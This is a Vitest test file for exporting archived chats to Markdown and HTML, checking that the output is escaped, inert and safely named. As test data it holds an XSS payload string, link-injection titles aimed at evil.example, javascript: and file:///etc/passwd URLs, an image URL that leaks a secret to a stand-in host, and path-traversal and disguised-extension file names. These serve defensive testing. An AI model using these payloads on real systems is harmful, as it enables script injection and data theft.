// @vitest-environment jsdom
import { createHash } from 'node:crypto';

import { lexer } from 'marked';
import { describe, expect, it } from 'vitest';

import type { ArchivedChat } from '#lib/chats/archived-chat.ts';
import type { Quote } from '#lib/protocol/chat.ts';
import { drawAnswer } from '#lib/transfer/exports/draw-answer.ts';
import { type ChatFormat, exportChats } from '#lib/transfer/exports/export-chats.ts';
import { nameChatFile, nameFile } from '#lib/transfer/exports/file-name.ts';
import { createHtmlFormat } from '#lib/transfer/exports/html-format.ts';
import { MARKDOWN_FORMAT } from '#lib/transfer/exports/markdown-format.ts';
import { makeAnswer, makeChat, makeQuestion } from '#test/support/transfer/make-chats.ts';

const HTML = createHtmlFormat(drawAnswer);
const HOSTILE = `"><script>alert(1)</script><img src=x onerror=alert(1)>' </style></title></blockquote> ]](javascript:alert(1)) \`\`\``;

async function write(format: ChatFormat, ...chats: ArchivedChat[]): Promise<string> {
  const texts: string[] = [];
  for (const chat of chats) texts.push([...format.writeChat(chat)].join(''));
  return format.head + texts.join(format.separator) + format.tail;
}

/** A chat with one question about this quote, and this answer. */
function chatWith(quote: Partial<Quote>, answer: string, title = 'Sky'): ArchivedChat {
  const question = makeQuestion('q', null, 1);
  const quotes = [
    { id: 'x', text: 'Rayleigh scattering', title: 'Page', url: 'https://a.example/b', ...quote },
  ];
  return {
    ...makeChat('one', 1),
    title,
    leaf: 'a',
    messages: [
      { createdAt: 1, ...question, text: 'Why?', quotes },
      { createdAt: 1, ...makeAnswer('a', 'q', 1), answer },
    ],
  };
}

/** Parses a file as a browser without scripts does. */
function parse(html: string): Document {
  return new DOMParser().parseFromString(html, 'text/html');
}

describe('Markdown of a chat', () => {
  it('has the question, its sources with links to the passage, and the answer as it was written', async () => {
    const text = await write(
      MARKDOWN_FORMAT,
      chatWith({ text: 'line one\n\nline two' }, '# Big\n\n**bold**'),
    );
    expect(text).toContain('# Sky\n\n*');
    expect(text).toContain(
      '## Question\n\n> line one\n>\n> line two\n>\n> — [Page](https://a.example/b#:~:text=',
    );
    expect(text).toContain('\n\nWhy?\n\n## Answer\n\n*model-1 · Example*\n\n# Big\n\n**bold**\n\n');
  });

  it('has the branch that is shown and no other', async () => {
    const text = await write(MARKDOWN_FORMAT, makeChat('one', 4));
    expect(text.match(/^## Question$/gmu)).toHaveLength(4);
    expect(text.match(/^## Answer$/gmu)).toHaveLength(4);
  });

  it.each([
    ['```', 'Here:\n\n```ts\nconst a = 1;\n'],
    ['~~~~', '~~~~\nopen\n```\n~~~\n'],
    ['  ```', '- In a list:\n\n  ```ts\n  const a = 1;\n'],
  ])(
    'closes code that an answer or a question ends in, so that the rest stays text (%s)',
    async (fence, text) => {
      const chat = chatWith({}, text);
      const [question, answer] = chat.messages;
      const cut = { ...chat, messages: [Object.assign({}, question, { text }), Object.assign({}, answer)] };
      const tokens = lexer(await write(MARKDOWN_FORMAT, cut, makeChat('two', 1)));
      expect(await write(MARKDOWN_FORMAT, cut)).toContain(`${text.trimEnd()}\n${fence}\n\n`);
      const headings = tokens.flatMap((token) => (token.type === 'heading' ? [token['text']] : []));
      expect(headings).toEqual(expect.arrayContaining(['Sky', 'Question', 'Answer']));
      expect(headings.filter((heading) => heading === 'Question')).toHaveLength(2);
    },
  );

  it('leaves code that is closed as it was written', async () => {
    const text = '```md\n~~~\n```\n\n    ```\n\nEnd';
    expect(await write(MARKDOWN_FORMAT, chatWith({}, text))).toContain(`\n\n${text}\n\n`);
  });

  it('says where a picture was generated', async () => {
    const chat = chatWith({}, '');
    const [question, answer] = chat.messages;
    const pictures = [{ type: 'image/png', data: 'aaaa' }];
    const messages = [Object.assign({}, question), Object.assign({}, answer, { pictures })];
    expect(await write(MARKDOWN_FORMAT, { ...chat, messages })).toContain('*Generated picture*');
  });

  it('lets no title or address end its link or begin a block', async () => {
    const chat = chatWith(
      { title: 'a](https://evil.example)\n# b', url: 'https://a.example/(x) y' },
      'x',
      '# <b>\n*t*',
    );
    const text = await write(MARKDOWN_FORMAT, chat);
    expect(text).toContain(String.raw`[a\](https://evil.example) \# b](https://a.example/%28x%29%20y`);
    expect(text).toContain(String.raw`# \# \<b\> \*t\*`);
  });

  it('lists the sources that the model named', async () => {
    const chat = chatWith({}, 'x');
    const [question, answer] = chat.messages;
    const sources = [{ title: 'a](https://evil.example)', url: 'https://a.example/(x)' }, { title: 'Notes' }];
    const named = {
      ...chat,
      messages: [Object.assign({}, question), Object.assign({}, answer, { sources })],
    };
    expect(await write(MARKDOWN_FORMAT, named)).toContain(
      String.raw`### Sources named by the model

1. [a\](https://evil.example)](https://a.example/%28x%29)
2. Notes
`,
    );
  });

  it('links no page that is not on the web', async () => {
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'data:text/html,x', '']) {
      const text = await write(MARKDOWN_FORMAT, chatWith({ url }, 'x'));
      expect(text).toContain('> — Page\n');
      expect(text).not.toContain('](');
    }
  });
});

describe('HTML of a chat', () => {
  it('has a policy under which nothing runs and nothing loads, and only its own style', async () => {
    const page = parse(await write(HTML, makeChat('one', 2)));
    const style = page.querySelector('style')?.textContent ?? '';
    const hash = createHash('sha256').update(style).digest('base64');
    const policy = page.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content');
    expect(policy).toBe(
      `default-src 'none'; style-src 'sha256-${hash}'; img-src data:; base-uri 'none'; form-action 'none'`,
    );
    expect(page.head.firstElementChild?.getAttribute('charset')).toBe('utf-8');
  });

  it('draws the answer', async () => {
    const page = parse(await write(HTML, chatWith({}, '# Big\n\n- **bold**\n\n| a |\n|---|\n| 1 |')));
    expect(page.querySelector('section h1')?.textContent).toBe('Big');
    expect(page.querySelector('li strong')?.textContent).toBe('bold');
    expect(page.querySelector('td')?.textContent).toBe('1');
    const [source] = page.querySelectorAll('blockquote a');
    expect(source?.getAttribute('href')).toContain('https://a.example/b#:~:text=Rayleigh');
  });

  it('is inert whatever a page, a model or a user wrote', async () => {
    const chat = chatWith(
      { text: HOSTILE, title: HOSTILE, url: `https://a.example/${HOSTILE}` },
      HOSTILE,
      HOSTILE,
    );
    const [question, answer] = chat.messages;
    const hostile = {
      ...chat,
      messages: [
        Object.assign({}, question, { text: HOSTILE }),
        Object.assign({}, answer, {
          reasoning: HOSTILE,
          model: HOSTILE,
          provider: HOSTILE,
          pictures: [{ type: 'image/png', data: HOSTILE }],
          sources: [{ title: HOSTILE, url: `https://a.example/${HOSTILE}`, cited: [HOSTILE] }],
        }),
      ],
    };
    const page = parse(await write(HTML, hostile));
    expect(page.querySelectorAll('script, iframe, object, embed, form, link, base, svg, input')).toHaveLength(
      0,
    );
    for (const element of page.querySelectorAll('*'))
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$/u);
        if (name === 'href') expect(value).toMatch(/^(?:https?|mailto):/u);
        if (name === 'src') expect(value).toMatch(/^data:image\/png;base64,/u);
      }
    expect(page.querySelectorAll('style')).toHaveLength(1);
    expect(page.body.textContent).toContain(HOSTILE);
  });

  it('loads no picture of an answer', async () => {
    const page = parse(await write(HTML, chatWith({}, '![a](https://evil.example/p.png?q=secret)')));
    expect(page.querySelectorAll('img')).toHaveLength(0);
  });

  it('has the pictures that were asked about', async () => {
    const page = parse(await write(HTML, makeChat('one', 1, 0)));
    expect(page.querySelector('blockquote img')?.getAttribute('src')).toContain(
      'data:image/png;base64,iVBOR',
    );
  });
});

describe('an export', () => {
  it('stops when it is cancelled', async () => {
    const stopping = new AbortController();
    const read = (id: string): Promise<{ chat: ArchivedChat; unreadable: number }> => {
      if (id === '2') stopping.abort();
      return Promise.resolve({ chat: makeChat(id, 1), unreadable: 0 });
    };
    const exporting = exportChats({ read }, ['1', '2', '3'], MARKDOWN_FORMAT, { signal: stopping.signal });
    await expect(exporting).rejects.toThrow('aborted');
  });

  it('leaves out what has been deleted, and counts what cannot be read', async () => {
    const read = (id: string): Promise<{ chat: ArchivedChat; unreadable: number } | undefined> =>
      Promise.resolve(id === '2' ? undefined : { chat: makeChat(id, 1), unreadable: 3 });
    const { signal } = new AbortController();
    const file = await exportChats({ read }, ['1', '2', '3'], MARKDOWN_FORMAT, { signal });
    expect(file).toMatchObject({ chats: 2, unreadable: 6 });
    expect(file.blob.type).toBe('text/markdown');
  });
});

describe('the name of a file', () => {
  it.each([
    ['Why is the sky blue?', 'Why is the sky blue.md'],
    ['../../etc/passwd', 'etc passwd.md'],
    ['a\u202Egpj.exe', 'a gpj.exe.md'],
    ['...', 'gloss-chat.md'],
    ['', 'gloss-chat.md'],
    ['NUL', 'gloss-chat.md'],
    ['天空为什么是蓝色的', '天空为什么是蓝色的.md'],
  ])('of the chat %j is %j', (title, name) => {
    expect(nameChatFile(title, 'markdown')).toBe(name);
  });

  it('is short, and does not end in half a character', () => {
    const name = nameChatFile('😀'.repeat(100), 'json');
    expect(Array.from(name)).toHaveLength(85);
    expect(name.isWellFormed()).toBe(true);
  });

  it('has the day for all chats', () => {
    expect(nameFile('chats', 'html', new Date(2026, 0, 5).getTime())).toBe('gloss-chats-2026-01-05.html');
  });
});
